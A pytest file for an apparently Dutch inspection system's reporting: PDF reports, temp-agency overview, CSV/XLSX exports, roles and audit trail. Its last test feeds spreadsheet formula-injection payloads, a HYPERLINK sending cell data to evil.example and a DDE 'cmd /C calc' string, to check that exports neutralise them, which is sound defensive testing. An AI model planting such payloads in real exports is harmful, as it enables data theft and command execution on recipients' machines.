"""Reporting: the PDF report's text, aard en omvang, the uitzendbureau overview, MDO/RIEC exports; roles."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
from openpyxl import load_workbook  # type: ignore[import-untyped]
from pypdf import PdfReader
from review_helpers import flagged_control

LoginAs = Callable[[str], Any]


def test_pdf_report_text(http: httpx.Client, login_as: LoginAs) -> None:
    inspector, lead = login_as("inspecteur1"), login_as("teamleider1")
    iid = flagged_control(inspector, street="Rapportstraat", neighbourhood="Spijkerkwartier", persons=2)
    http.post(f"/api/v1/review/inspections/{iid}/verifications", headers=lead.headers,
              json={"subject_id": "p1", "verdict": "gegrond", "reason": "Paspoort bij de werkgever."})
    http.post(f"/api/v1/review/inspections/{iid}/referrals", headers=lead.headers,
              json={"partner": "nla", "note": "Arbeidsuitbuiting?"})
    r = http.get(f"/api/v1/review/inspections/{iid}/report.pdf", headers=lead.headers)
    assert r.status_code == 200 and r.headers["content-type"] == "application/pdf"
    assert r.content.startswith(b"%PDF")
    _screenshot(r.content)
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(r.content)).pages)
    for expected in ("Bestuurlijke rapportage", "Rapportstraat 1", "Spijkerkwartier", "02-03-2026",
                     "Inspecteur Een", "Persoon 1", "Persoon 2", "L2 ernstig signaal", "Documenten ingehouden",
                     "Paspoort ingehouden.", "Gegrond", "Paspoort bij de werkgever.",
                     "Nederlandse Arbeidsinspectie", "Arbeidsuitbuiting?", "Geen foto"):
        assert expected in text, expected
    trail = http.get("/api/v1/review/audit", params={"inspection_id": iid}, headers=lead.headers).json()["items"]
    assert trail[0]["action"] == "read_report"
    assert http.get(f"/api/v1/review/inspections/{uuid.uuid4()}/report.pdf", headers=lead.headers
                    ).status_code == 404


def test_pdf_report_groups_persons_and_states_the_level_line_first(http: httpx.Client, login_as: LoginAs) -> None:
    inspector, lead = login_as("inspecteur1"), login_as("teamleider1")
    iid = flagged_control(inspector, street="Groepstraat", locked=True, persons=3)
    r = http.post(f"/api/v1/review/inspections/{iid}/verifications/group", headers=lead.headers,
                  json={"subject_ids": ["p2", "p3"], "verdict": "ongegrond", "reason": "Eigen sleutel."})
    assert r.status_code == 201, r.text
    r = http.get(f"/api/v1/review/inspections/{iid}/report.pdf", headers=lead.headers)
    assert r.status_code == 200
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(r.content)).pages)
    lines = [" ".join(x.split()) for x in text.splitlines()]  # a justified line extracts with wider gaps
    # p2 and p3 have the same signals: one group, in the persons and in the signals
    assert "2 personen met dezelfde signalen (Persoon 2, Persoon 3): L1 signaal" in lines
    signals = lines[lines.index("Signalen en toelichting"):lines.index("Verificatie en doorverwijzing")]
    assert signals.count("2 personen met dezelfde signalen: L1 signaal") == 1
    assert "Persoon 2: L1 signaal" not in lines and "Persoon 1: L2 ernstig signaal" in signals
    # each group's level line comes right after its title (and its members), before the indicators
    for title, level in (("Persoon 1: L2 ernstig signaal", "Niveau 2"), ("Pand: L1 signaal", "Niveau 1"),
                         ("2 personen met dezelfde signalen: L1 signaal", "Niveau 1")):
        after = signals[signals.index(title) + 1:]
        first = next(x for x in after if not x.startswith("Personen:"))
        assert first.startswith(level), (title, first)
    # an indicator once, with its evidence (the answer in words, evidence type and where it was recorded)
    person_one = signals[signals.index("Persoon 1: L2 ernstig signaal"):
                         signals.index("2 personen met dezelfde signalen: L1 signaal")]
    assert sum(x.startswith("• Opgesloten") for x in person_one) == 1
    assert not any("(EX1)" in x or "catalogus" in x for x in signals)  # no codes in what the mayor reads
    assert "Opgesloten: ja (waargenomen, pand)" in person_one
    assert "Paspoort ingehouden: ja (eigen verklaring, persoon)" in person_one
    assert "signalen Persoon 2, Persoon 3: Ongegrond. Reden: Eigen sleutel." in text


def _screenshot(pdf: bytes) -> None:
    """With INSPECTIE_SCREENSHOTS=1: the report's first page as docs/screenshots/report_pdf_page1.png."""
    if os.environ.get("INSPECTIE_SCREENSHOTS") != "1" or shutil.which("pdftoppm") is None:
        return
    out = Path(__file__).resolve().parents[2] / "docs" / "screenshots"
    (out / "report.pdf").write_bytes(pdf)
    subprocess.run(["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile", str(out / "report.pdf"),
                    str(out / "report_pdf_page1")], check=True, timeout=60)
    (out / "report.pdf").unlink()


def test_overview_counts(http: httpx.Client, login_as: LoginAs) -> None:
    inspector, keten = login_as("inspecteur1"), login_as("ketenregisseur1")
    before = http.get("/api/v1/reporting/overview", params={"year": 2024}, headers=keten.headers).json()
    flagged_control(inspector, neighbourhood="Geitenkamp", started="2024-02-10T10:00:00+01:00")
    flagged_control(inspector, passport=False, neighbourhood="Geitenkamp", started="2024-08-10T10:00:00+02:00")
    r = http.get("/api/v1/reporting/overview", params={"year": 2024}, headers=keten.headers)
    assert r.status_code == 200
    body = r.json()
    assert body["controls"] == before["controls"] + 2 and body["signals"] == before["signals"] + 1
    assert {"key": "Geitenkamp", "count": 2} in body["by_neighbourhood"]
    quarters = {q["quarter"]: q for q in body["by_quarter"]}
    assert quarters["2024-K1"]["by_level"]["L2"] >= 1 and quarters["2024-K3"]["by_level"]["L0"] >= 1
    assert any(row["key"] in ("labour", "sexual") for row in body["by_profile"])
    assert http.get("/api/v1/reporting/overview", headers=login_as("planner1").headers).status_code == 403


def test_agencies(http: httpx.Client, login_as: LoginAs) -> None:
    inspector, keten = login_as("inspecteur1"), login_as("ketenregisseur1")
    a = flagged_control(inspector, street="Bureauweg", persons=3, identifiers=[("uitzendbureau", "KvK 8765 4321")])
    b = flagged_control(inspector, passport=False, street="Bureaulaan", persons=2,
                        identifiers=[("uitzendbureau", "87654321")])
    flagged_control(inspector, passport=False, street="Bureauplein", identifiers=[("uitzendbureau", "12345678")])
    r = http.get("/api/v1/reporting/agencies", headers=keten.headers)
    assert r.status_code == 200
    [row] = [x for x in r.json()["items"] if x["kvk"] == "87654321"]
    assert row["addresses"] == 2 and row["persons"] == 5 and row["signals"] == 1 and row["worst_level"] == 2
    assert {c["inspection_id"] for c in row["controls"]} == {a, b} and row["control_count"] == 2
    first = http.get("/api/v1/reporting/agencies", params={"limit": 1}, headers=keten.headers).json()
    assert len(first["items"]) == 1 and first["next_cursor"] and first["total"] == len(r.json()["items"])
    rest = http.get("/api/v1/reporting/agencies", params={"cursor": first["next_cursor"]}, headers=keten.headers)
    assert [x["kvk"] for x in first["items"] + rest.json()["items"]] == [x["kvk"] for x in r.json()["items"]]
    bad = http.get("/api/v1/reporting/agencies", params={"cursor": "bm90LWEtY3Vyc29y"}, headers=keten.headers)
    assert bad.status_code == 422 and bad.json()["code"] == "validation_error"
    lead = login_as("teamleider1")
    assert http.get("/api/v1/reporting/agencies", headers=lead.headers).status_code == 403
    trail = http.get("/api/v1/review/audit", headers=lead.headers).json()["items"]
    assert any(e["action"] == "read_agencies" and e["username"] == "ketenregisseur1" for e in trail)


def test_exports_csv_and_xlsx(http: httpx.Client, login_as: LoginAs) -> None:
    inspector, keten, lead = login_as("inspecteur1"), login_as("ketenregisseur1"), login_as("teamleider1")
    iid = flagged_control(inspector, street="Exportstraat", neighbourhood="Het Broek",
                          started="2025-11-03T10:00:00+01:00", identifiers=[("phone", "0600000001")])
    flagged_control(inspector, street="Exportlaan", identifiers=[("phone", "06 00 00 00 01")])
    http.post(f"/api/v1/review/inspections/{iid}/verifications", headers=lead.headers,
              json={"subject_id": "p1", "verdict": "gegrond", "reason": "Bevestigd; zie dossier."})
    r = http.get("/api/v1/reporting/exports/mdo.csv", headers=keten.headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf") and b"\r\n" in r.content
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:5] == ["Datum controle", "Adres", "Wijk", "Soort controle", "Persoon"]
    [mine] = [row for row in rows if row[1].startswith("Exportstraat")]
    assert mine[0] == "03-11-2025" and mine[2] == "Het Broek" and mine[4] == "Persoon 1"
    assert mine[5] == "L2 ernstig signaal" and mine[7] == "CD1" and mine[8] == "Gegrond"
    assert mine[9] == "Bevestigd; zie dossier."  # the semicolon is quoted, so the row keeps its columns
    assert "0600000001" not in r.text and "Inspecteur" not in rows[0]

    r = http.get("/api/v1/reporting/exports/riec.xlsx", headers=keten.headers)
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in ws[1]]
    assert "Persoon" not in header and header[8] == "Cluster"
    [row] = [[c for c in line] for line in ws.iter_rows(min_row=2) if line[1].value == "Exportstraat 1"]
    assert row[0].number_format == "DD-MM-YYYY" and row[0].value.strftime("%d-%m-%Y") == "03-11-2025"
    assert row[8].value and row[9].value == 1

    assert http.get("/api/v1/reporting/exports/bsn.csv", headers=keten.headers).status_code == 404
    assert http.get("/api/v1/reporting/exports/mdo.pdf", headers=keten.headers).status_code == 422
    for who in (lead, inspector, login_as("planner1")):
        assert http.get("/api/v1/reporting/exports/mdo.csv", headers=who.headers).status_code == 403
    trail = http.get("/api/v1/review/audit", headers=lead.headers).json()["items"]
    assert [e["object_id"] for e in trail if e["action"] == "export"][:2] == ["riec.xlsx", "mdo.csv"]


def test_exports_neutralise_formulas_in_csv_and_xlsx(http: httpx.Client, login_as: LoginAs) -> None:
    """Issue 12 (4): a text from the field that a spreadsheet would run as a formula is written as text."""
    inspector, keten, lead = login_as("inspecteur1"), login_as("ketenregisseur1"), login_as("teamleider1")
    street, reason = '=HYPERLINK("http://evil.example/?d="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0"
    iid = flagged_control(inspector, street=street, neighbourhood="-2+3")
    r = http.post(f"/api/v1/review/inspections/{iid}/verifications", headers=lead.headers,
                  json={"subject_id": "p1", "verdict": "gegrond", "reason": reason})
    assert r.status_code == 201, r.text
    for purpose in ("mdo", "riec"):
        r = http.get(f"/api/v1/reporting/exports/{purpose}.csv", headers=keten.headers)
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
        [mine] = [row for row in rows if "evil.example" in row[1]]
        assert mine[1].startswith("'" + street + " 1")
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
        if purpose == "mdo":
            assert mine[9] == "'" + reason and mine[2] == "'-2+3"

        r = http.get(f"/api/v1/reporting/exports/{purpose}.xlsx", headers=keten.headers)
        ws = load_workbook(io.BytesIO(r.content)).active
        assert all(cell.data_type != "f" for line in ws.iter_rows() for cell in line)
        [line] = [line for line in ws.iter_rows(min_row=2) if "evil.example" in str(line[1].value)]
        assert line[1].data_type == "s" and line[1].value.startswith(street) and line[1].quotePrefix
        if purpose == "mdo":
            assert line[9].value == reason and line[9].data_type == "s" and line[9].quotePrefix
